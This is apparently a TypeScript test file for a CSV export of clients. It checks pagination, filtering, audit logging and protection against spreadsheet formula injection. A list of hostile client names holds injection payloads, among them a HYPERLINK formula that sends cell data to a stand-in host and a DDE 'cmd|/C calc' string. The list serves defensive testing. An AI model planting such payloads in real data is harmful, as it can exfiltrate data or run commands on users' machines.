import { sql } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Caller, makeApp, type TestApp } from '../../../../test/support/make-app.ts'
import { soaked } from '../../../../test/support/soak-share.ts'
import { openedRows } from '../../../../test/support/whole-database.ts'
import { seedMany } from '../seed/seed-many.ts'
import { spreadsheetCell } from './spreadsheet-cell.ts'

/** A page holds a thousand: these, and as many of whom nothing is known, which take a hundredth of the time to make. */
const [seeded = 0] = soaked([100], [1_200])
const plain = 950
const all = seeded + plain
const now = new Date('2026-11-20T14:02:00Z')
let app: TestApp
let admin: Caller
beforeAll(async () => {
  app = await makeApp({ now, working: false })
  admin = await app.asStaff('admin')
})
afterAll(() => app.close())

/** RFC 4180, strictly: quoted cells, commas, lines that end in CR LF. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]]
  const cell = /"((?:[^"]|"")*)"(,|\r\n)/gy
  for (let match = cell.exec(csv); match; match = cell.exec(csv)) {
    rows.at(-1)?.push((match[1] ?? '').replaceAll('""', '"'))
    if (match[2] === '\r\n') rows.push([])
    if (cell.lastIndex === csv.length) return rows.slice(0, -1)
  }
  throw new Error(`this is no CSV at ${csv.slice(cell.lastIndex, cell.lastIndex + 40)}`)
}

async function take(query = ''): Promise<string[][]> {
  const reply = await admin.inject({ url: `/api/staff/clients.csv${query}` })
  expect(reply.statusCode, reply.body).toBe(200)
  expect(reply.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': expect.stringMatching(/^attachment; filename="clients-2026-11-20\.csv"/),
    'cache-control': 'no-store',
  })
  expect([...reply.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  return cellsOf(reply.rawPayload.toString('utf8').slice(1))
}

const hostileNames = [
  '=HYPERLINK("http://evil.example?x="&A1,"open")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  'Two\r\n=1+1 lines',
  '＝1+1 full width',
  'Semi;=1+1 colon',
  'Quote","=1+1',
  'Pipe|@SUM(1)',
  'Ana 王 “quoted”, O’Brien',
]

describe('the export of clients', () => {
  it('holds every client that the filter finds, in more pages than one', async () => {
    await seedMany(app.deps, seeded, () => undefined)
    await app.deps.database.db.execute(sql`
      insert into clients (client_type, name, email, email_key, phone, payment_status, amount_cents)
      select 'paid', '', '', 'plain' || at, '', 'paid', 0 from generate_series(1, ${plain}::int) at`)
    const rows = await take()
    expect(rows).toHaveLength(1 + all)
    const header = rows[0] ?? []
    const [id, stage] = [header.indexOf('id'), header.indexOf('disputeStatus')]
    expect(new Set(rows.slice(1).map((row) => row[id])).size).toBe(all)
    const completed = await take('?stage=completed&search=example')
    expect(completed.slice(1).every((row) => row[stage] === 'completed')).toBe(true)
    expect(completed.length - 1).toBe(rows.filter((row) => row[stage] === 'completed').length)
    const { rows: entries } = await app.deps.database.db.execute(
      `select detail, actor_name from audit_entries where action = 'exportClients' order by position`,
    )
    expect(openedRows(app.deps, 'audit_entries', entries)).toEqual([
      { detail: { clients: all }, actor_name: 'Sam Staff' },
      {
        detail: { stage: 'completed', searched: true, clients: completed.length - 1 },
        actor_name: 'Sam Staff',
      },
    ])
  })

  it('opens hostile names as the text that they are', async () => {
    const ids = [] as number[]
    for (const name of hostileNames) ids.push(await app.makeClient({ name }))
    const rows = await take()
    const at = (rows[0] ?? []).indexOf('name')
    for (const [index, name] of hostileNames.entries()) {
      const row = rows.find((cells) => cells[0] === String(ids[index]))
      expect(row).toHaveLength(rows[0]?.length ?? 0)
      const cell = row?.[at] ?? ''
      expect(cell.replaceAll("'", '')).toBe(name.replaceAll("'", ''))
      // Whichever sign a spreadsheet parts cells by, none of them begins with what it would run.
      for (const part of cell.split(/[;,|\t\r\n]/)) expect(part.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/u)
    }
  })

  it('is refused for a filter that is none, and answers nobody found with the heading alone', async () => {
    expect((await admin.inject({ url: '/api/staff/clients.csv?payment=x' })).statusCode).toBe(400)
    expect(await take('?search=nobodyhasthisname')).toHaveLength(1)
  })
})

describe('a cell of a spreadsheet', () => {
  it.each([
    ['Ana Diaz', 'Ana Diaz'],
    ['=1', "'=1"],
    [' =1', "' =1"],
    ['(480) 555-0100', '(480) 555-0100'],
    ['+1 480 555 0100', "'+1 480 555 0100"],
    ['Smith-Jones', 'Smith-Jones'],
    ['a@b.example', 'a@b.example'],
    ['-', "'-"],
    [null, ''],
  ])('of %o is %o', (value, cell) => expect(spreadsheetCell(value)).toBe(cell))
})
